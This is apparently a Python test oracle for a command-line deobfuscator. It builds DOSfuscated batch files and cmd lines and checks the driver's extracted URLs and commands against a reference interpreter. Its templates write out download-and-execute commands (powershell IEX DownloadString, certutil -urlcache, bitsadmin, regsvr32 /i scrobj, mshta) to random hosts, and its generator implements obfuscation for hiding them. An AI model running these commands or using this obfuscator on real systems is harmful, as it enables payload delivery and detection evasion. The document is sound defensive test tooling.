#!/usr/bin/env python3
"""cmd_oracle.py - deob_cmd() (src/deob/cmd.c) against DOSfuscated command lines
built here and a batch expander of the oracle's own.

usage: cmd_oracle.py --driver CMD_DRIVER --work DIR [--cases N] [--seed S]

Each case is a known command line (powershell, mshta, certutil, bitsadmin,
curl, regsvr32, msiexec, rundll32 with a random download URL) cut into
pieces, each piece hidden one way: characters picked by substrings of a
scrambled alphabet variable (%A:~i,1%, %A:~-k,1%, %A:~i,-m%, and the
same with !A:...! under delayed expansion), characters picked from
%COMSPEC% and %SystemRoot%, a junk token replaced away (%R:J=%, %R:J=c%,
%R:*K=%), a variable holding the piece, literal characters behind carets,
undefined variables as noise (batch files only).  The pieces are written
as a batch file (set lines, then the command, maybe through call), as
cmd /c "set ...&&call ..." or as cmd /v:on /c "set ...&&...!A:~i,1!...".

The reference (Reference below) is a small batch interpreter written for
this oracle: percent and delayed expansion with cmd.exe's substring and
replacement rules, carets, & && || |, set, setlocal, call, cmd /c /v.
It must first give the case's known command line back (otherwise the
generator or the reference is wrong: the case fails); then the driver's
records (JSON lines, how "cmd expansion") must equal the reference's, in
order: each URL of an expanded command, each expanded program command
line that is not in the line as written.  Exit 0 when every case agrees.
"""
import argparse
import json
import os
import random
import re
import string
import subprocess
import sys

HOW = "cmd expansion"

BUILTIN = {
    "comspec": "C:\\Windows\\system32\\cmd.exe",
    "systemroot": "C:\\Windows",
    "windir": "C:\\Windows",
    "public": "C:\\Users\\Public",
    "temp": "C:\\Users\\user\\AppData\\Local\\Temp",
    "programdata": "C:\\ProgramData",
}

PROGRAMS = {"powershell", "mshta", "certutil", "bitsadmin", "curl", "regsvr32", "msiexec",
            "rundll32", "cmd", "start", "wscript", "cscript"}

URL_RE = re.compile(r"(?i)(?:https?|ftp)://[^\x00-\x20\"'<>|^`);]+")


# ---- the reference ---------------------------------------------------------

def cut(value, spec):
    """value[~spec]: 'start' or 'start,len' (decimal, signed)."""
    m = re.match(r"\s*([+-]?\d*)(?:,\s*([+-]?\d*))?", spec)
    n = len(value)
    start = int(m.group(1)) if m.group(1) not in ("", "+", "-") else 0
    if start < 0:
        start = max(n + start, 0)
    start = min(start, n)
    end = n
    if m.group(2) is not None:
        k = int(m.group(2)) if m.group(2) not in ("", "+", "-") else 0
        end = min(n + k if k < 0 else start + k, n)
    return value[start:end] if end > start else ""


def swap(value, spec):
    """value[old=new] (case-insensitive, all), value[*old=new] (first, with
    everything before it)."""
    old, _, new = spec.partition("=")
    star = old.startswith("*")
    if star:
        old = old[1:]
    if not old:
        return value
    pat = re.compile(re.escape(old), re.I)
    if star:
        m = pat.search(value)
        return new + value[m.end():] if m else value
    return pat.sub(lambda _m: new, value)


def modifier(value, mod):
    """value with ':mod' applied, or None when mod is malformed."""
    if mod.startswith("~"):
        return cut(value, mod[1:])
    if "=" not in mod:
        return None
    return swap(value, mod)


class Reference:
    def __init__(self):
        self.records = []

    def add(self, s):
        s = s.rstrip()
        if s and s not in self.records:
            self.records.append(s)

    def percent(self, line, env, batch):
        out, i = [], 0
        while i < len(line):
            j = line.find("%", i)
            if j < 0:
                out.append(line[i:])
                break
            out.append(line[i:j])
            i = j
            nxt = line[i + 1:i + 2]
            if batch and nxt == "%":
                out.append("%")
                i += 2
                continue
            if batch and nxt and (nxt.isdigit() or nxt == "*"):
                i += 2
                continue
            k = line.find("%", i + 1)
            if k < 0:
                if not batch:
                    out.append("%")
                i += 1
                continue
            body = line[i + 1:k]
            if body == "":
                out.append("%")
                i += 1
                continue
            name, colon, mod = body.partition(":")
            val = env.get(name.lower()) if name else None
            if not colon:
                if val is not None:
                    out.append(val)
                elif not batch:
                    out.append("%" + body + "%")
                i = k + 1
                continue
            res = modifier(val, mod) if val is not None else None
            if res is None:
                if not batch:
                    out.append("%" + name + ":")
                i += len(name) + 2
                continue
            out.append(res)
            i = k + 1
        return "".join(out)

    def delayed(self, cmd, env):
        out, i = [], 0
        while i < len(cmd):
            ch = cmd[i]
            if ch == "^":
                out.append(cmd[i + 1:i + 2])
                i += 2
            elif ch == "!":
                k = cmd.find("!", i + 1)
                if k < 0:
                    break
                name, colon, mod = cmd[i + 1:k].partition(":")
                val = env.get(name.lower()) if name else None
                if val is not None:
                    res = modifier(val, mod) if colon else val
                    out.append(res or "")
                i = k + 1
            else:
                out.append(ch)
                i += 1
        return "".join(out)

    @staticmethod
    def commands(line):
        """line cut at & && || | outside quotes, carets removed."""
        cmds, cur, quoted, i = [], [], False, 0
        while i < len(line):
            ch = line[i]
            if ch == '"':
                quoted = not quoted
                cur.append(ch)
            elif not quoted and ch == "^":
                cur.append(line[i + 1:i + 2])
                i += 1
            elif not quoted and ch in "&|":
                cmds.append("".join(cur))
                cur = []
                if line[i + 1:i + 2] == ch:
                    i += 1
            else:
                cur.append(ch)
            i += 1
        cmds.append("".join(cur))
        return cmds

    def run_line(self, line, sh, raw):
        for c in self.commands(line):
            self.run(c, sh, raw)

    def run(self, cmd, sh, raw):
        if sh["delayed"] and "!" in cmd:
            cmd = self.delayed(cmd, sh["env"])
        body = cmd.lstrip(" \t,;=@")
        m = re.match(r'((?:"[^"]*"|[^\s,;=/"])+)(.*)', body, re.S)
        if not m:
            return
        word, rest = m.group(1), m.group(2)
        name = word.replace('"', "").lower().rsplit("\\", 1)[-1]
        if name.endswith(".exe"):
            name = name[:-4]
        if name != "set":
            for u in URL_RE.findall(body):
                self.add(u)
        if name in PROGRAMS:
            shown = word.replace('"', "") + rest
            if shown.rstrip() not in raw:
                self.add(shown)
        if name == "set":
            arg = rest.lstrip(" \t")
            if arg.startswith("/"):
                return
            if arg.startswith('"'):
                arg = arg[1:arg.rfind('"')] if arg.rfind('"') > 0 else arg[1:]
            var, eq, val = arg.partition("=")
            if eq and var:
                if val:
                    sh["env"][var.lower()] = val
                else:
                    sh["env"].pop(var.lower(), None)
        elif name == "setlocal":
            if "enabledelayedexpansion" in rest.lower():
                sh["delayed"] = True
        elif name == "call":
            again = self.percent(rest.lstrip(" \t"), sh["env"], sh["batch"])
            self.run_line(again, dict(sh, delayed=False), raw)
        elif name == "cmd":
            m = re.match(r"((?:\s*/[^/\s\"]*)*?)\s*/[cC]\s*(.*)", rest, re.S)
            if not m:
                return
            switches = m.group(1).lower()
            inner = m.group(2)
            if inner.startswith('"'):
                last = inner.rfind('"')
                inner = inner[1:last] + inner[last + 1:] if last > 0 else inner[1:]
            child = {"env": dict(sh["env"]), "batch": False,
                     "delayed": re.search(r"/v(?!:off)", switches) is not None}
            self.run_line(self.percent(inner, child["env"], False), child, raw)

    def script(self, text):
        lines = [l.rstrip("\r") for l in text.split("\n")]
        batch = sum(1 for l in lines if l.strip()) > 1
        sh = {"env": dict(BUILTIN), "batch": batch, "delayed": False}
        for raw in lines:
            s = raw.lstrip(" \t@")
            if not s or s.startswith(":") or re.match(r"(?i)rem(\s|$)", s):
                continue
            self.run_line(self.percent(raw, sh["env"], batch), sh, raw)
        return self.records


# ---- the generator -----------------------------------------------------------

def url(rnd):
    host = "".join(rnd.choice(string.ascii_lowercase) for _ in range(rnd.randint(3, 9)))
    path = "/".join("".join(rnd.choice(string.ascii_letters + string.digits + "_-")
                            for _ in range(rnd.randint(1, 8))) for _ in range(rnd.randint(1, 3)))
    q = "?id=%d" % rnd.randint(1, 9999) if rnd.random() < 0.3 else ""
    return "%s://%s.%s/%s%s" % (rnd.choice(["http", "https", "HTTP"]), host,
                                rnd.choice(["com", "example", "xyz", "ru"]), path, q)


def plaintext(rnd):
    u = url(rnd)
    f = "".join(rnd.choice(string.ascii_lowercase) for _ in range(rnd.randint(1, 6)))
    t = rnd.choice([
        "powershell -nop -w hidden -c iwr {u} -OutFile C:\\Users\\Public\\{f}.exe",
        "powershell -c IEX (New-Object Net.WebClient).DownloadString('{u}')",
        "mshta {u}",
        "certutil -urlcache -split -f {u} {f}.exe",
        "bitsadmin /transfer {f} /download /priority high {u} C:\\ProgramData\\{f}.exe",
        "curl -s -o {f}.dll {u}",
        "regsvr32 /s /n /u /i:{u} scrobj.dll",
        "msiexec /q /i {u}",
        "rundll32 {f}.dll,DllRegisterServer",
    ])
    return t.format(u=u, f=f)


class Gen:
    def __init__(self, rnd, mode):
        self.rnd = rnd
        self.mode = mode
        self.batch = mode.startswith("batch")
        self.bang = mode == "cmd_delayed" or (mode == "batch_delayed" and rnd.random() < 0.6)
        self.sets = []
        self.used = set(BUILTIN)

    def name(self):
        while True:
            n = "".join(self.rnd.choice(string.ascii_letters + "_")
                        for _ in range(self.rnd.randint(1, 6)))
            if n.lower() not in self.used:
                self.used.add(n.lower())
                return n

    def ref(self, name, mod=""):
        n = "".join(c.swapcase() if self.rnd.random() < 0.3 else c for c in name)
        d = "!" if self.bang and self.rnd.random() < 0.8 else "%"
        if self.mode == "cmd_delayed":
            d = "!"
        return d + n + (":" + mod if mod else "") + d

    def pick(self, name, value, ch):
        idx = [i for i, c in enumerate(value) if c == ch]
        i = self.rnd.choice(idx)
        n = len(value)
        form = self.rnd.randrange(4)
        if form == 0:
            spec = "~%d,1" % i
        elif form == 1:
            spec = "~-%d,1" % (n - i)
        elif form == 2 and n - i - 1 > 0:
            spec = "~%d,-%d" % (i, n - i - 1)
        elif form == 3 and n - i - 1 > 0:
            spec = "~-%d,-%d" % (n - i, n - i - 1)
        else:
            spec = "~%d,1" % i
        return self.ref(name, spec)

    def junk(self, avoid, k=None):
        for _ in range(1000):
            j = "".join(self.rnd.choice(string.ascii_uppercase + string.digits)
                        for _ in range(k or self.rnd.randint(2, 4)))
            if j.lower() not in avoid.lower():
                return j
        raise RuntimeError("no junk")

    def piece(self, s, alpha):
        rnd = self.rnd
        kinds = ["alpha", "alpha", "caret", "repl", "replc", "star", "var", "builtin"]
        if self.batch and not self.bang:
            kinds.append("noise")
        k = rnd.choice(kinds)
        if k == "alpha":
            return "".join(self.pick(alpha[0], alpha[1], c) for c in s)
        if k == "builtin":
            out = []
            for c in s:
                src = [b for b in ("ComSpec", "SystemRoot") if c in BUILTIN[b.lower()]]
                if src:
                    b = rnd.choice(src)
                    out.append(self.pick(b, BUILTIN[b.lower()], c))
                else:
                    out.append(self.pick(alpha[0], alpha[1], c))
            return "".join(out)
        if k == "caret":
            return "".join(("^" + c if rnd.random() < 0.5 else c) for c in s)
        if k == "noise":
            return "%q" + self.junk("", 6) + "%" + s
        n = self.name()
        if k == "repl":
            j = self.junk(s)
            v = "".join(c + (j if rnd.random() < 0.4 else "") for c in s)
            v, mod = (j + v if rnd.random() < 0.5 else v), j + "="
        elif k == "replc":
            j = self.junk(s)
            c = rnd.choice(s)
            v, mod = s.replace(c, j), j + "=" + c
        elif k == "star":
            pre = "".join(rnd.choice(string.ascii_lowercase) for _ in range(rnd.randint(1, 8)))
            j = self.junk(pre)
            v, mod = pre + j + s, "*" + j + "="
        else:
            v, mod = s, ""
        if mod and swap(v, mod) != s:
            v, mod = s, ""  # the junk made a match of its own: a plain variable
        self.sets.append((n, v))
        return self.ref(n, mod)

    def build(self, text):
        rnd = self.rnd
        chars = sorted(set(text))
        extra = rnd.sample(string.ascii_letters + string.digits, rnd.randint(0, 10))
        alpha_v = chars + [c for c in extra if c not in chars]
        rnd.shuffle(alpha_v)
        alpha = (self.name(), "".join(alpha_v))
        self.sets.append(alpha)
        parts, i = [], 0
        while i < len(text):
            n = rnd.randint(1, 5)
            parts.append(self.piece(text[i:i + n], alpha))
            i += n
        rnd.shuffle(self.sets)
        expr = "".join(parts)
        if self.batch:
            lines = []
            if rnd.random() < 0.5:
                lines.append("@echo off")
            if self.mode == "batch_delayed":
                lines.append("setlocal EnableDelayedExpansion")
            for n, v in self.sets:
                lines.append('set "%s=%s"' % (n, v) if rnd.random() < 0.5 else
                             "set %s=%s" % (n, v))
                if rnd.random() < 0.2:
                    lines.append(rnd.choice([":lbl%d" % rnd.randint(0, 99), "rem x",
                                             ":: comment", "echo off"]))
            lines.append(("call " if rnd.random() < 0.2 and not self.bang else "") + expr)
            return "\r\n".join(lines) + "\r\n"
        cmd = rnd.choice(["cmd", "cmd.exe", "%ComSpec%", "C:\\Windows\\System32\\cmd.exe"])
        sets = "&&".join("set %s=%s" % (n, v) for n, v in self.sets)
        if self.mode == "cmd_call":
            sw = rnd.choice(["/c", "/C", "/q /c", "/d/c"])
            return '%s %s "%s&&call %s"' % (cmd, sw, sets, expr)
        sw = rnd.choice(["/v:on /c", "/V:ON/C", "/v /c", "/q /v:on /c"])
        return '%s %s "%s&&%s"' % (cmd, sw, sets, expr)


def make_case(rnd):
    text = plaintext(rnd)
    mode = rnd.choice(["batch", "batch_delayed", "cmd_call", "cmd_delayed"])
    return Gen(rnd, mode).build(text), text, mode


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--driver", required=True)
    ap.add_argument("--work", required=True)
    ap.add_argument("--cases", type=int, default=400)
    ap.add_argument("--seed", type=int, default=18)
    a = ap.parse_args()
    os.makedirs(a.work, exist_ok=True)
    rnd = random.Random(a.seed)
    bad = 0
    for i in range(a.cases):
        src, text, mode = make_case(rnd)
        want = Reference().script(src)
        path = os.path.join(a.work, "case%04d.bat" % i)
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write(src)
        why = None
        if text not in want:
            why = "the reference did not give the command back"
        else:
            p = subprocess.run([a.driver, path], capture_output=True, timeout=60)
            got = []
            for line in p.stdout.decode("utf-8").splitlines():
                o = json.loads(line)
                if "how" in o:
                    got.append(o["value"] if o["how"] == HOW else "[%s] %s" % (o["how"],
                                                                                 o["value"]))
            if p.returncode != 0:
                why = "driver exit %d" % p.returncode
            elif got != want:
                why = "records differ:\n  got  %r" % got
        if why is not None:
            bad += 1
            if bad <= 5:
                print("case %d (%s, %s): %s\n  want %r\n  command %r\n  source:\n%s" %
                      (i, path, mode, why, want, text, src[:2000]))
    print("cmd oracle: %d cases, %d disagree" % (a.cases, bad))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
